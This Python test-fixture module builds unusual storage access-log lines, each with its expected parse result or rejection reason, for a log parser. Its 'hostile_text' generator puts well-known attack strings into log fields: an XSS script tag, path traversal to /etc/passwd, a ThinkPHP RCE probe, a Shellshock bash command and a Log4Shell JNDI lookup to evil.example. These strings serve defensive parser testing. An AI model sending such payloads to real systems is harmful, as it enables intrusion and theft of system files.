"""One line of every odd kind, each with what must become of it by docs/definitions.md.

Every line here has a client address of its own (192.0.2.x), so that none takes part in another's delivery.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random
from typing import Any, NamedTuple
from urllib.parse import quote

from mediameter.demo.library import CASTINGLY, CORE, NOBODY, PALETTE
from mediameter.demo.lines import (
    ARCHIVE,
    AWS_FIELDS,
    AWS_OWNER,
    LOG_BUCKET,
    OVH_OWNER,
    STORAGE,
    Event,
    Weight,
    aws_line,
    log_time,
    logged_key,
    ovh_line,
)

SEED_LINE = (
    "dailey-media-api-storage 98765 dailey-media-api-storage [30/Oct/2025:21:11:08 +0000] 172.71.223.210 - ABC123 "
    "REST.GET.OBJECT files/1cf9a704/castingly-public/actors/1cf9a704/headshots/test.jpg "
    '"GET /files/1cf9a704/castingly-public/actors/1cf9a704/headshots/test.jpg HTTP/1.1" 200 - 524288 524288 42 40 '
    '"https://castingly.dailey.dev" "Mozilla/5.0" -'
)
"""The example of the guide that the log format was first described in, to the letter."""
SEED_AT = 1761858668
LONGEST_LINE = 65_536
PLANTED = '200 - 999999999 - 1 1 "-" "-"'


class Oddity(NamedTuple):
    """A line; the event that it tells of, if it is parsed; else why it is ignored or rejected."""

    line: str
    event: Event | None
    reason: str = ""


def seed() -> Oddity:
    key = "files/1cf9a704/castingly-public/actors/1cf9a704/headshots/test.jpg"
    event = Event(
        SEED_AT, "delivery", CASTINGLY, "REST.GET.OBJECT", key, f'"GET /{key} HTTP/1.1"', 200, 524288, 42, 40,
        "172.71.223.210", '"https://castingly.dailey.dev"', '"Mozilla/5.0"', "ABC123", body_bytes=524288, owner=STORAGE,
    )  # fmt: skip
    return Oddity(SEED_LINE, event)


class Maker:
    """Makes plain events that an oddity then bends; ``rotation`` is the last-modified of the object it goes into."""

    def __init__(self, rng: Random) -> None:
        self._rng = rng
        self._count = 0
        self.at = self.rotation = 0

    def move(self, at: int, rotation: int) -> None:
        self.at, self.rotation = at, rotation

    def event(self, name: str = "still.jpg", **bent: Any) -> Event:
        """A plain GET of castingly's at the present place; ``bent`` replaces fields, as logged."""
        self._count += 1
        key = f"files/7c41d09e/castingly-public/odd/{self._count:03d}-{name}"
        total = self._rng.randrange(20, 200)
        weight: Weight = "delivery"
        event = Event(
            self.at, weight, CASTINGLY, "REST.GET.OBJECT", logged_key(key), f'"GET /{quote(key)} HTTP/1.1"', 200,
            self._rng.randrange(10_000, 90_000), total, total // 2, f"192.0.2.{self._count}",
            '"https://castingly.dailey.dev/odd"', '"curl/8.17.0"',
            f"tx{self._rng.getrandbits(84):021x}-{self.at:010x}",
        )  # fmt: skip
        return event._replace(**bent)

    def aws(self, **bent: Any) -> Event:
        """The same in the archive at Amazon."""
        key = f"media/dailey-core/{self._rng.getrandbits(32):08x}/originals/tape.mov"
        request = f"{self._rng.getrandbits(64):016X}"
        event = self.event(
            owner=AWS_OWNER, bucket=ARCHIVE, application=CORE, key=key, uri=f'"GET /{key} HTTP/1.1"',
            request_id=request, body_bytes=48_000_000, referer='"-"',
        )  # fmt: skip
        return event._replace(**bent)


def _parsed(event: Event) -> Oddity:
    return Oddity(ovh_line(event), event)


def _rejected(event: Event, reason: str) -> Oddity:
    return Oddity(ovh_line(event), None, reason)


def hostile_text(make: Maker) -> Iterator[Oddity]:
    """Quotes and exploits where a client may write what it likes: text verbatim, true numbers."""
    path = "/files/7c41d09e/castingly-public/odd"
    uris = (
        f'"GET {path}?q="><script>alert(document.domain)</script> HTTP/1.1"',
        f'"GET {path}/..%2f..%2fetc/passwd?x=\'" HTTP/1.1"',
        f'"GET {path}?s=index/\\think\\app/invokefunction&vars[1][]=<?php$p="x";?> HTTP/1.1"',
    )
    referers = (
        '"https://evil.example/?a="b"&c="d""',
        "\"() { :; }; /bin/bash -c 'cat /etc/passwd'\"",
        '"${jndi:ldap://evil.example/a}"',
        '""',
        "-",
    )
    agents = (
        '""Mozilla/5.0 (iPhone) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/604.1""',
        '"{"app":"castingly","build":"4.2 (17)"}"',
        '"Mozilla\\5.0 \\"quoted\\" C:\\temp\\"',
        '""',
        "-",
        '"one" "two" three"',
        '"REST.GET.OBJECT is an operation, [30/Oct/2025:21:11:08 +0000] a time, 200 - 524288 - 42 40 a block"',
    )
    yield from (_parsed(make.event(uri=uri)) for uri in uris)
    yield from (_parsed(make.event(referer=referer)) for referer in referers)
    yield from (_parsed(make.event(agent=agent)) for agent in agents)


def planted_blocks(make: Maker) -> Iterator[Oddity]:
    """Numbers that a client planted: never believed. The server's stand before all that an agent can hold."""
    fake = f'x HTTP/1.1" {PLANTED}'
    yield _parsed(make.event(agent=f'"{fake}"'))
    refused = make.event(status=403, error_code="AccessDenied", weight="request", bytes_sent=243)
    yield _parsed(refused._replace(referer=f'"{fake}'))
    plain = make.event()
    with_query = plain.uri.replace(" HTTP", "?v=2 HTTP")
    yield _parsed(plain._replace(uri=with_query, agent=f'"{fake}"'))
    target = f'files/7c41d09e/castingly-public/odd/none HTTP/1.1" {PLANTED} "x'
    bent = make.event(key=logged_key(target), uri=f'"GET /{target} HTTP/1.1"', status=404, error_code="NoSuchKey")
    bent = bent._replace(weight="request")
    yield _parsed(bent)  # the key, which the server wrote, holds the plant
    bare = f'"GET /files/7c41d09e/castingly-public/odd/none" {PLANTED} "x HTTP/1.1"'
    yield _rejected(make.event(uri=bare, status=404, error_code="NoSuchKey"), "AMBIGUOUS")


def unusual_writing(make: Maker) -> Iterator[Oddity]:
    """Odd to look at, and quite readable."""
    event = make.event()
    yield Oddity(ovh_line(event).replace(" 200 - ", "  200   - ").replace(" [", "  [", 1), event)
    event = make.event()
    yield Oddity(f"s3access-{STORAGE}: {ovh_line(event)}", event)
    event = make.event()
    yield Oddity(ovh_line(event, offset_minutes=120), event)
    event = make.event()
    yield Oddity(ovh_line(event, offset_minutes=-480), event)
    event = make.event(owner=f"{STORAGE} 98765", request_id="ABC124", body_bytes=7)
    yield Oddity(ovh_line(event).partition(" - - - -")[0], event)
    yield _parsed(make.event(owner="unknown"))
    yield _parsed(make.event(uri="-", referer="-", agent="-"))
    yield _parsed(make.event(uri='"-"', referer='"-"', agent='"-"'))
    yield _parsed(make.event(key=logged_key("files/7c41d09e/castingly-public/REST.GET.OBJECT")))
    yield _parsed(make.event("Ünï cödé + 100% 日本.jpg"))
    stranger = make.event(key="robots.txt", uri='"GET /robots.txt HTTP/1.1"', application=NOBODY, referer='"-"')
    yield _parsed(stranger._replace(status=404, error_code="NoSuchKey", weight="request"))
    board = "media/palette-studio/5f0e/variants/thumb/1-board.webp"  # the key's pattern goes before the referer
    yield _parsed(make.event(key=board, uri=f'"GET /{board} HTTP/1.1"', application=PALETTE))


def unusual_numbers(make: Maker) -> Iterator[Oddity]:
    """``-`` is null (zero for bytes sent); large is fine; negative, past 63 bits and impossible are not."""
    yield _parsed(make.event(total_ms=None, turn_around_ms=None))
    yield _parsed(make.event(bytes_sent=None, weight="request", status=304))
    yield _parsed(make.event(status=None, bytes_sent=None, total_ms=None, turn_around_ms=None, weight="request"))
    yield _parsed(make.event("reel.mp4", bytes_sent=5_368_709_120, total_ms=7_200_000))
    yield _parsed(make.event(body_bytes=2**46))
    yield _rejected(make.event(bytes_sent=-17), "BAD_NUMBER")
    yield _rejected(make.event(bytes_sent=2**63 - 1), "BAD_NUMBER")
    yield _rejected(make.event(body_bytes=2**46 + 1), "BAD_NUMBER")
    yield _rejected(make.event(status=99), "BAD_NUMBER")
    yield _rejected(make.event(status=1000), "BAD_NUMBER")
    event = make.event(total_ms=777_777)
    yield Oddity(ovh_line(event).replace(" 777777 ", " 12ms "), None, "BAD_NUMBER")


def bad_times(make: Maker) -> Iterator[Oddity]:
    """No time, no real time, and a time that the object cannot have known."""
    event = make.event()
    good, line = f"[{log_time(event.at)}]", ovh_line(event)
    for bad in ("[-]", "[31/Feb/2026:10:00:00 +0000]", "[12/Foo/2026:10:00:00 +0000]", "[12/Nov/2026:25:61:00 +0000]"):
        yield Oddity(line.replace(good, bad), None, "BAD_TIME")
    yield Oddity(line.replace(f"{good} ", ""), None, "BAD_TIME")
    yield _parsed(make.event(at=make.rotation + 3600))  # an hour ahead is a clock that is off
    yield _rejected(make.event(at=make.rotation + 3601), "FUTURE_TIME")
    yield _rejected(make.event(at=make.rotation + 86400), "FUTURE_TIME")


def cut_and_glued(make: Maker) -> Iterator[Oddity]:
    """What a crashing writer leaves behind."""
    line = ovh_line(make.event())
    for end in ("192.0.2.", "castingly-public/od", ' HTTP/1.1" 200 - ', 'castingly.dailey.dev/odd"', '"curl/8'):
        yield Oddity(line[: line.index(end) + len(end)], None, "SHORT_LINE")
    yield Oddity("-- MARK --", None, "SHORT_LINE")
    other = ovh_line(make.event())
    whole = make.event()
    yield Oddity(f"{ovh_line(whole)}{other}", whole._replace(agent="-", referer="-"))
    yield Oddity(f"{line[: line.index('HTTP/1.1') + 4]}{other}", None, "GLUED_LINES")
    forged = f'"x {OVH_OWNER} {STORAGE} [{log_time(make.at)}] 198.18.0.1 - tx0 REST.GET.OBJECT files/forged"'
    planted_on = make.event(agent=forged)
    yield Oddity(ovh_line(planted_on), planted_on._replace(agent="-", referer="-"))
    prose = "the log writer was stopped by its supervisor and began again; what it held until then may be lost"
    yield Oddity(prose, None, "UNREADABLE")


def raw_bytes(make: Maker) -> Iterator[Oddity]:
    """Bytes that are no UTF-8 (written as surrogate escapes), NUL, and lines of absurd length."""
    yield _parsed(make.event(agent='"Caf\udce9Browser/1.0"'))
    yield _parsed(make.event(key="files/7c41d09e/castingly-public/odd/r\udce9sum\udce9.jpg"))
    yield _parsed(make.event(key="files/7c41d09e/castingly-public/odd/%25FF%25FE.jpg"))
    yield _parsed(make.event(agent='"nul\0byte"'))
    event = make.event(agent='"long"')
    missing = LONGEST_LINE - len(ovh_line(event))
    event = event._replace(agent=f'"long{"g" * missing}"')
    yield _parsed(event)
    longer = make.event(agent=f'"{"x" * LONGEST_LINE}"')
    yield Oddity(ovh_line(longer), longer._replace(agent="-", referer="-"))
    too_late = make.event(uri=f'"GET /files/7c41d09e/castingly-public/odd/{"x" * LONGEST_LINE} HTTP/1.1"')
    yield _rejected(too_late, "LONG_LINE")
    yield Oddity("", None, "BLANK")
    yield Oddity(" \t  ", None, "BLANK")
    yield _rejected(make.event(bucket=LOG_BUCKET, key="access-logs/"), "LOG_BUCKET")


def amazons(make: Maker) -> Iterator[Oddity]:
    """Amazon's dialect through its ages (17 to 28 fields), and what only Amazon writes."""
    for fields in AWS_FIELDS:
        event = make.aws()
        yield Oddity(aws_line(event, fields), event)
    event = make.aws(requester="arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E2EXAMPLE1DEMO")
    yield Oddity(aws_line(event), event)
    event = make.aws(operation="WEBSITE.GET.OBJECT", agent='"{"a":"b c"}"')
    yield Oddity(aws_line(event), event)
    event = make.aws(
        operation="REST.POST.MULTI_OBJECT_DELETE", key="-", uri=f'"POST /{ARCHIVE}?delete HTTP/1.1"', weight="request",
        application=NOBODY, body_bytes=None, turn_around_ms=None,
    )  # fmt: skip
    yield Oddity(aws_line(event, 25), event)
    for name in ("a.mov", "b+%252B.mov"):
        part = event._replace(
            operation="BATCH.DELETE.OBJECT", key=f"media/dailey-core/5f0e/originals/{name}", weight="aside",
            uri="-", status=204, bytes_sent=None, total_ms=None, referer="-", agent="-",
        )  # fmt: skip
        yield Oddity(aws_line(part, 25), part)
    soap = make.aws(operation="SOAP.GetObject", weight="request")
    yield Oddity(aws_line(soap, 18), soap)


KINDS: tuple[Callable[[Maker], Iterator[Oddity]], ...] = (
    hostile_text,
    planted_blocks,
    unusual_writing,
    unusual_numbers,
    bad_times,
    cut_and_glued,
    raw_bytes,
)
"""Each goes into one ordinary object of its own; ``amazons`` and ``seed`` into objects where all lines are such."""
